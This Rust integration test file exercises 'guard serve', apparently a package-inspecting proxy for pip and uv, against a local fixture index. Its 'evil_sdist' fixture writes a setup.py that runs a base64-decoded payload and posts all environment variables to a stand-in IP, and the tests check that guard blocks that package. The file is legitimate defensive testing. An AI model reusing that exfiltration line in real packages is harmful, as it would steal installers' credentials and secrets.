//! `guard serve` end to end (issue 13): real `guard serve` processes on
//! 127.0.0.1 in front of the fixture index of tests/common, a real pip and a
//! real uv as clients, and (postgres.rs) a throw-away PostgreSQL cluster.
//! Nothing leaves the machine; no package code is run by guard.

mod access;
#[path = "../common/mod.rs"]
mod common;
mod install;
mod memory;
mod postgres;
mod setup;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{sdist, sha, wheel, Fault, Index};

/// A running `guard serve`, stopped with SIGTERM when dropped.
pub struct Serve {
    child: Child,
    pub addr: String,
    pub log: PathBuf,
}

impl Serve {
    pub fn start(cache: &Path, args: &[&str]) -> Serve {
        Serve::start_env(cache, args, &[])
    }

    /// With extra environment variables (token secrets).
    pub fn start_env(cache: &Path, args: &[&str], env: &[(&str, &str)]) -> Serve {
        std::fs::create_dir_all(cache).unwrap();
        let log = cache.with_extension(format!("{}.log", std::process::id()));
        let child = Command::new(env!("CARGO_BIN_EXE_guard"))
            .args(["serve", "--listen", "127.0.0.1:0", "--cache-dir"])
            .arg(cache)
            .args(args)
            .envs(env.iter().copied())
            .env_remove("GUARD_DATABASE")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .unwrap();
        let mut serve = Serve {
            child,
            addr: String::new(),
            log,
        };
        let start = Instant::now();
        loop {
            let text = std::fs::read_to_string(&serve.log).unwrap_or_default();
            // Only a complete line: the log may be read while guard is still writing it.
            if let Some((addr, _)) = text
                .split("listening on http://")
                .nth(1)
                .and_then(|rest| rest.split_once("/simple/ "))
            {
                serve.addr = addr.to_string();
                return serve;
            }
            if let Ok(Some(status)) = serve.child.try_wait() {
                panic!("guard serve exited with {status}:\n{text}");
            }
            assert!(
                start.elapsed() < Duration::from_secs(30),
                "guard serve did not start:\n{text}"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    pub fn url(&self) -> String {
        format!("http://{}/simple/", self.addr)
    }

    pub fn pid(&self) -> u32 {
        self.child.id()
    }

    pub fn get(&self, path: &str, accept: Option<&str>) -> Reply {
        get(&self.addr, path, accept)
    }

    /// How many artifacts this process inspected (its `"event":"inspected"` log lines).
    pub fn inspections(&self) -> usize {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.contains("\"event\":\"inspected\""))
            .count()
    }

    pub fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// SIGTERM, then the exit status.
    pub fn stop(&mut self) -> std::process::ExitStatus {
        let _ = Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status();
        let start = Instant::now();
        loop {
            if let Ok(Some(s)) = self.child.try_wait() {
                return s;
            }
            if start.elapsed() > Duration::from_secs(20) {
                let _ = self.child.kill();
                panic!("guard serve ignored SIGTERM for 20 s");
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

#[derive(Debug)]
pub struct Reply {
    pub status: u16,
    /// The status line's reason phrase.
    pub reason: String,
    pub head: String,
    pub body: Vec<u8>,
}

impl Reply {
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// A plain HTTP/1.1 GET (Connection: close).
pub fn get(addr: &str, path: &str, accept: Option<&str>) -> Reply {
    let accept = accept.map(|a| format!("Accept: {a}\r\n")).unwrap_or_default();
    request(addr, "GET", path, &accept, b"")
}

/// One HTTP/1.1 request; `headers` are complete `Name: value\r\n` lines.
pub fn request(addr: &str, method: &str, path: &str, headers: &str, body: &[u8]) -> Reply {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    write!(
        s,
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .unwrap();
    s.write_all(body).unwrap();
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).unwrap();
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a complete response head")
        + 4;
    let head = String::from_utf8_lossy(&raw[..split]).into_owned();
    let line = head.lines().next().unwrap();
    let status = line.split(' ').nth(1).unwrap().parse().unwrap();
    let reason = line.splitn(3, ' ').nth(2).unwrap_or("").to_string();
    Reply {
        status,
        reason,
        head,
        body: raw[split..].to_vec(),
    }
}

pub fn guard(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_guard"))
        .args(args)
        .env_remove("GUARD_DATABASE")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

pub fn venv(dir: &Path) -> PathBuf {
    let venv = dir.join("venv");
    let ok = Command::new("python3")
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .expect("python3 is needed for these tests")
        .success();
    assert!(ok, "python3 -m venv failed");
    venv.join("bin").join("python")
}

/// The uv that `.ci/run` installs (GUARD_UV, else `uv` on PATH).
pub fn uv() -> PathBuf {
    if let Some(p) = std::env::var_os("GUARD_UV") {
        return PathBuf::from(p);
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .map(|d| d.join("uv"))
        .find(|p| p.is_file())
        .expect("uv is needed for these tests: `pip install uv` (.ci/run does)")
}

pub fn pip(python: &Path, index: &str, args: &[&str]) -> Output {
    Command::new(python)
        .args([
            "-m",
            "pip",
            "install",
            "--no-cache-dir",
            "--disable-pip-version-check",
            "--index-url",
            index,
        ])
        .args(args)
        .env("PIP_CONFIG_FILE", "/dev/null")
        .env_remove("PIP_EXTRA_INDEX_URL")
        .env_remove("PIP_FIND_LINKS")
        .output()
        .unwrap()
}

pub fn uv_install(python: &Path, cache: &Path, index: &str, args: &[&str]) -> Output {
    Command::new(uv())
        .args(["pip", "install", "--no-config", "--python"])
        .arg(python)
        .arg("--cache-dir")
        .arg(cache)
        .args(["--index-url", index])
        .args(args)
        .env_remove("UV_INDEX_URL")
        .env_remove("UV_EXTRA_INDEX_URL")
        .env_remove("UV_DEFAULT_INDEX")
        .env_remove("UV_INDEX")
        .output()
        .unwrap()
}

pub fn both(out: &Output) -> String {
    format!(
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn evil_sdist(name: &str, canary: &Path) -> (String, Vec<u8>) {
    let setup_py = format!(
        "import os, base64, urllib.request\nopen({:?}, 'w').write('setup.py ran')\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name={name:?}, version='1.0')\n",
        canary.display().to_string()
    );
    sdist(
        name,
        "1.0",
        &[
            ("setup.py", setup_py),
            (
                "pyproject.toml",
                "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n".into(),
            ),
            (
                "PKG-INFO",
                format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"),
            ),
        ],
    )
}

/// A harmless sdist with real code and metadata (policy `sdist = "review"` makes it `review`).
pub fn plain_sdist(name: &str) -> (String, Vec<u8>) {
    let module = name.replace('-', "_");
    sdist(
        name,
        "1.0",
        &[
            (
                "PKG-INFO",
                format!(
                    "Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: Helpers for parsing team configuration files\n\nParses the team's configuration files into dictionaries.\n"
                ),
            ),
            (
                "pyproject.toml",
                format!("[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"{name}\"\nversion = \"1.0\"\n"),
            ),
            (
                &format!("src/{module}/__init__.py"),
                "def parse(text):\n    return dict(line.split('=', 1) for line in text.splitlines() if '=' in line)\n".into(),
            ),
        ],
    )
}

pub fn file_path(reply: &Reply, filename: &str) -> String {
    let page: serde_json::Value = serde_json::from_slice(&reply.body).unwrap();
    let url = page["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["filename"] == filename)
        .unwrap_or_else(|| panic!("{filename} not listed: {}", reply.text()))["url"]
        .as_str()
        .unwrap()
        .to_string();
    format!("/{}", url.trim_start_matches("../../"))
}

/// The benign sdist, built offline by the shared in-tree backend
/// (`tests/fixtures/backend.py`, `requires = []`). Run by pip/uv only.
fn benign_sdist() -> (String, Vec<u8>) {
    common::backend::backend_sdist("benign-sdist", "1.0", &[], "VALUE = 2\n")
}

const JSON: &str = "application/vnd.pypi.simple.v1+json";

#[test]
fn pip_and_uv_install_a_benign_wheel_and_refuse_a_malicious_sdist() {
    let dir = tempfile::tempdir().unwrap();
    let canary = dir.path().join("CANARY");
    let index = Index::start();
    index.add("benign-wheel", wheel("benign-wheel", "1.0", &[]), Fault::None);
    index.add("evil-pkg", evil_sdist("evil-pkg", &canary), Fault::None);
    index.add("evil-two", evil_sdist("evil-two", &canary), Fault::None);
    index.add("benign-sdist", benign_sdist(), Fault::None);
    let cache = dir.path().join("cache");
    let serve = Serve::start(&cache, &["--upstream", &index.url()]);
    let python = venv(dir.path());

    let out = pip(&python, &serve.url(), &["benign-wheel", "benign-sdist"]);
    assert!(
        out.status.success(),
        "pip failed:\n{}\n{}",
        both(&out),
        serve.log_text()
    );
    assert!(both(&out).contains("benign-wheel-1.0"), "{}", both(&out));
    assert!(both(&out).contains("benign-sdist-1.0"), "{}", both(&out));

    let out = pip(&python, &serve.url(), &["evil-pkg"]);
    let text = both(&out);
    assert!(!out.status.success(), "pip installed evil-pkg:\n{text}");
    assert!(text.contains("403"), "{text}");
    assert!(
        text.contains("guard: evil-pkg 1.0"),
        "guard's reason not in pip's output:\n{text}"
    );
    assert!(
        text.contains("exec-decoded-payload") || text.contains("denied"),
        "{text}"
    );
    assert!(!canary.exists(), "setup.py ran");

    // uv, into a fresh environment.
    let dir2 = tempfile::tempdir().unwrap();
    let python2 = venv(dir2.path());
    let uv_cache = dir2.path().join("uv-cache");
    let out = uv_install(&python2, &uv_cache, &serve.url(), &["benign-wheel", "benign-sdist"]);
    assert!(out.status.success(), "uv failed:\n{}\n{}", both(&out), serve.log_text());
    assert!(both(&out).contains("benign-sdist==1.0"), "{}", both(&out));
    let out = uv_install(&python2, &uv_cache, &serve.url(), &["evil-two==1.0"]);
    let text = both(&out);
    assert!(!out.status.success(), "uv installed evil-two:\n{text}");
    assert!(
        text.contains("guard: evil-two 1.0"),
        "guard's reason not in uv's output:\n{text}"
    );
    assert!(!canary.exists(), "setup.py ran");
    eprintln!("uv said:\n{text}");

    // Known-denied files are hidden from the page now; the benign wheel was inspected once.
    let page = serve.get("/simple/evil-pkg/", Some(JSON));
    assert_eq!(page.status, 200);
    assert!(
        !page.text().contains("evil_pkg-1.0") && !page.text().contains("evil-pkg-1.0.tar.gz"),
        "{}",
        page.text()
    );
    assert_eq!(serve.inspections(), 4, "{}", serve.log_text());
}

#[test]
fn pages_negotiate_json_and_html_and_pass_signals_through() {
    let dir = tempfile::tempdir().unwrap();
    let index = Index::start();
    let (fname, bytes) = wheel("sig-pkg", "1.0", &[]);
    let h = sha(&bytes);
    index.route(
        &format!("/files/{fname}"),
        bytes.clone(),
        "application/octet-stream",
        Fault::None,
    );
    let meta = b"Metadata-Version: 2.1\nName: sig-pkg\nVersion: 1.0\n".to_vec();
    let mh = sha(&meta);
    index.route(
        &format!("/files/{fname}.metadata"),
        meta.clone(),
        "application/octet-stream",
        Fault::None,
    );
    index.route(
        "/simple/sig-pkg/",
        format!(
            r#"{{"meta":{{"api-version":"1.1"}},"name":"sig-pkg","files":[{{"filename":"{fname}","url":"../../files/{fname}","hashes":{{"sha256":"{h}"}},"requires-python":">=3.8","core-metadata":{{"sha256":"{mh}"}},"yanked":"broken","upload-time":"2020-01-01T00:00:00.000000Z","size":{}}}]}}"#,
            bytes.len()
        )
        .into_bytes(),
        JSON,
        Fault::None,
    );
    let serve = Serve::start(&dir.path().join("cache"), &["--upstream", &index.url()]);

    let json = serve.get(
        "/simple/sig-pkg/",
        Some("application/vnd.pypi.simple.v1+json, text/html;q=0.01"),
    );
    assert_eq!(json.status, 200);
    assert!(json
        .head
        .to_ascii_lowercase()
        .contains(&format!("content-type: {JSON}")));
    let page: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    let f = &page["files"][0];
    assert_eq!(f["url"], format!("../../files/{h}/{fname}"));
    assert_eq!(f["hashes"]["sha256"], h);
    assert_eq!(f["requires-python"], ">=3.8");
    assert_eq!(f["core-metadata"]["sha256"], mh);
    assert_eq!(f["yanked"], "broken");
    assert_eq!(f["upload-time"], "2020-01-01T00:00:00.000000Z");
    assert_eq!(f["size"], bytes.len());
    assert_eq!(page["versions"][0], "1.0");

    let html = serve.get("/simple/Sig_Pkg/", None);
    assert_eq!(html.status, 200);
    assert!(html.head.to_ascii_lowercase().contains("content-type: text/html"));
    let text = html.text();
    assert!(
        text.contains(&format!("href=\"../../files/{h}/{fname}#sha256={h}\"")),
        "{text}"
    );
    assert!(text.contains("data-yanked=\"broken\""));
    assert!(text.contains(&format!("data-core-metadata=\"sha256={mh}\"")));
    assert!(text.contains("data-requires-python=\"&gt;=3.8\""));
    assert!(!text.contains(&index.port.to_string()), "upstream URL leaked: {text}");

    assert_eq!(serve.get("/simple/sig-pkg/", Some("image/png")).status, 406);
    let m = serve.get(&format!("/files/{h}/{fname}.metadata"), None);
    assert_eq!((m.status, m.body.clone()), (200, meta));
    let f = serve.get(&format!("/files/{h}/{fname}"), None);
    assert_eq!((f.status, sha(&f.body)), (200, h.clone()));
    assert_eq!(serve.get("/healthz", None).status, 200);
    assert_eq!(serve.get("/simple/no-such-project/", None).status, 404);
}

#[test]
fn too_young_release_is_skipped_for_an_older_approved_one() {
    let dir = tempfile::tempdir().unwrap();
    let index = Index::start();
    let old = wheel("young-pkg", "1.0", &[]);
    let new = wheel("young-pkg", "2.0", &[]);
    let now = {
        let secs = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs() as i64;
        let (days, rem) = (secs / 86_400, secs % 86_400);
        // civil-from-days
        let z = days + 719_468;
        let era = z.div_euclid(146_097);
        let doe = z - era * 146_097;
        let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
        let mp = (5 * doy + 2) / 153;
        let d = doy - (153 * mp + 2) / 5 + 1;
        let m = if mp < 10 { mp + 3 } else { mp - 9 };
        let y = yoe + era * 400 + i64::from(m <= 2);
        format!("{y:04}-{m:02}-{d:02}T{:02}:{:02}:00Z", rem / 3600, rem % 3600 / 60)
    };
    let mut entries = Vec::new();
    for ((fname, bytes), when) in [(old, "2020-01-01T00:00:00Z".to_string()), (new, now)] {
        index.route(
            &format!("/files/{fname}"),
            bytes.clone(),
            "application/octet-stream",
            Fault::None,
        );
        entries.push(format!(
            r#"{{"filename":"{fname}","url":"../../files/{fname}","hashes":{{"sha256":"{}"}},"upload-time":"{when}"}}"#,
            sha(&bytes)
        ));
    }
    index.route(
        "/simple/young-pkg/",
        format!(
            r#"{{"meta":{{"api-version":"1.1"}},"name":"young-pkg","files":[{}]}}"#,
            entries.join(",")
        )
        .into_bytes(),
        JSON,
        Fault::None,
    );
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "[install]\nmin_release_age = \"7d\"\n").unwrap();
    let serve = Serve::start(
        &dir.path().join("cache"),
        &["--upstream", &index.url(), "--policy", policy.to_str().unwrap()],
    );
    let page = serve.get("/simple/young-pkg/", Some(JSON)).text();
    assert!(
        page.contains("young_pkg-1.0") && !page.contains("young_pkg-2.0"),
        "{page}"
    );

    let python = venv(dir.path());
    let out = pip(&python, &serve.url(), &["young-pkg"]);
    assert!(out.status.success(), "{}", both(&out));
    assert!(
        both(&out).contains("Successfully installed young-pkg-1.0"),
        "{}",
        both(&out)
    );
    let out = uv_install(
        &python,
        &dir.path().join("uv-cache"),
        &serve.url(),
        &["--reinstall", "young-pkg"],
    );
    assert!(out.status.success(), "{}", both(&out));
    assert!(both(&out).contains("young-pkg==1.0"), "{}", both(&out));
    // Asked for directly, the young file is refused with the reason.
    let direct = serve.get(
        &format!(
            "/files/{}/young_pkg-2.0-py3-none-any.whl",
            sha(&wheel("young-pkg", "2.0", &[]).1)
        ),
        None,
    );
    assert_eq!(direct.status, 403, "{}", direct.text());
    assert!(direct.reason.contains("too new"), "{}", direct.reason);
}

#[test]
fn a_pinned_name_is_never_requested_from_the_other_upstream() {
    let dir = tempfile::tempdir().unwrap();
    let public = Index::start();
    let internal = Index::start();
    internal.add("acme-tools", wheel("acme-tools", "1.0", &[]), Fault::None);
    // The attacker's higher version on the public index.
    public.add("acme-tools", wheel("acme-tools", "99.0", &[]), Fault::None);
    public.add("public-pkg", wheel("public-pkg", "1.0", &[]), Fault::None);
    let pin = format!("acme-*={}", internal.url());
    let serve = Serve::start(&dir.path().join("cache"), &["--upstream", &public.url(), "--pin", &pin]);
    let python = venv(dir.path());
    let out = pip(&python, &serve.url(), &["acme-tools", "public-pkg"]);
    assert!(out.status.success(), "{}\n{}", both(&out), serve.log_text());
    assert!(both(&out).contains("acme-tools-1.0"), "{}", both(&out));
    let page = serve.get("/simple/ACME.Tools/", Some(JSON)).text();
    assert!(!page.contains("99.0"), "{page}");
    assert_eq!(
        public.hits("/simple/acme-tools/"),
        0,
        "a pinned name was asked of the public index"
    );
    assert_eq!(public.hits("/files/acme_tools-99.0-py3-none-any.whl"), 0);
    assert!(public.hits("/simple/public-pkg/") > 0);
    assert!(internal.hits("/simple/acme-tools/") > 0);
}

#[test]
fn upstream_failures_are_502_or_504_and_nothing_is_cached() {
    let dir = tempfile::tempdir().unwrap();
    let index = Index::start();
    index.add("flaky", wheel("flaky", "1.0", &[]), Fault::FailFirst(1000));
    index.add("hangs", wheel("hangs", "1.0", &[]), Fault::Hang);
    index.add("cut", wheel("cut", "1.0", &[]), Fault::Truncate(None));
    // The page announces one sha256, the upstream sends other bytes.
    index.add_with_hash("swapped", wheel("swapped", "1.0", &[]), Fault::None, &"ab".repeat(32));
    index.add("down", wheel("down", "1.0", &[]), Fault::None);
    index.page_fault("down", Fault::FailFirst(1000));
    index.add("slowpage", wheel("slowpage", "1.0", &[]), Fault::None);
    index.page_fault("slowpage", Fault::Hang);
    let cache = dir.path().join("cache");
    let serve = Serve::start(
        &cache,
        &[
            "--upstream",
            &index.url(),
            "--upstream-timeout",
            "1",
            "--upstream-retries",
            "0",
        ],
    );
    for (project, status) in [("flaky", 502), ("hangs", 504), ("cut", 502), ("swapped", 502)] {
        let page = serve.get(&format!("/simple/{project}/"), Some(JSON));
        assert_eq!(page.status, 200);
        let path = file_path(&page, &wheel(project, "1.0", &[]).0);
        let reply = serve.get(&path, None);
        assert_eq!(reply.status, status, "{project}: {} {}", reply.reason, reply.text());
        assert!(reply.text().contains("upstream"), "{}", reply.text());
    }
    let page = serve.get("/simple/down/", Some(JSON));
    assert_eq!(page.status, 502, "{}", page.text());
    assert!(page.text().contains("HTTP 500"), "{}", page.text());
    let page = serve.get("/simple/slowpage/", Some(JSON));
    assert_eq!(page.status, 504, "{}", page.text());
    assert!(
        common::cached_files(&cache).is_empty(),
        "{:?}",
        common::cached_files(&cache)
    );
    common::assert_cache_clean(&cache);
    assert_eq!(serve.inspections(), 0);
}

#[test]
fn review_verdicts_wait_for_a_person_and_shutdown_is_graceful() {
    let dir = tempfile::tempdir().unwrap();
    let index = Index::start();
    index.add("needs-look", plain_sdist("needs-look"), Fault::None);
    index.add("rejected", plain_sdist("rejected"), Fault::None);
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "[install]\nsdist = \"review\"\n").unwrap();
    let cache = dir.path().join("cache");
    let mut serve = Serve::start(
        &cache,
        &["--upstream", &index.url(), "--policy", policy.to_str().unwrap()],
    );
    let cache_s = cache.to_str().unwrap();

    let page = serve.get("/simple/needs-look/", Some(JSON));
    let path = file_path(&page, "needs-look-1.0.tar.gz");
    let first = serve.get(&path, None);
    assert_eq!(first.status, 403);
    assert!(first.reason.contains("awaiting review"), "{}", first.reason);
    let list = guard(&["review", "list", "--cache-dir", cache_s]);
    let text = String::from_utf8_lossy(&list.stdout).into_owned();
    assert!(text.contains("pending") && text.contains("needs-look 1.0"), "{text}");

    let ok = guard(&[
        "review",
        "approve",
        "needs-look",
        "1.0",
        "--reason",
        "read setup.py",
        "--by",
        "alice",
        "--cache-dir",
        cache_s,
    ]);
    assert!(ok.status.success(), "{}", String::from_utf8_lossy(&ok.stderr));
    let second = serve.get(&path, None);
    assert_eq!(second.status, 200, "{}", second.reason);
    let show = guard(&["review", "show", "needs-look", "1.0", "--cache-dir", cache_s]);
    let text = String::from_utf8_lossy(&show.stdout).into_owned();
    assert!(
        text.contains("approved by alice") && text.contains("policy-sdist"),
        "{text}"
    );

    // An expired approval does not count.
    let page = serve.get("/simple/rejected/", Some(JSON));
    let rpath = file_path(&page, "rejected-1.0.tar.gz");
    assert_eq!(serve.get(&rpath, None).status, 403);
    let deny = guard(&[
        "review",
        "deny",
        "rejected",
        "1.0",
        "--reason",
        "not ours",
        "--cache-dir",
        cache_s,
    ]);
    assert!(deny.status.success());
    let third = serve.get(&rpath, None);
    assert_eq!(third.status, 403);
    assert!(third.reason.contains("denied by reviewer"), "{}", third.reason);
    let page = serve.get("/simple/rejected/", Some(JSON));
    assert!(!page.text().contains("rejected-1.0.tar.gz"), "{}", page.text());
    assert_eq!(serve.inspections(), 2);

    let status = serve.stop();
    assert!(status.success(), "exit after SIGTERM: {status}\n{}", serve.log_text());
    assert!(serve.log_text().contains("shutting down"));
}
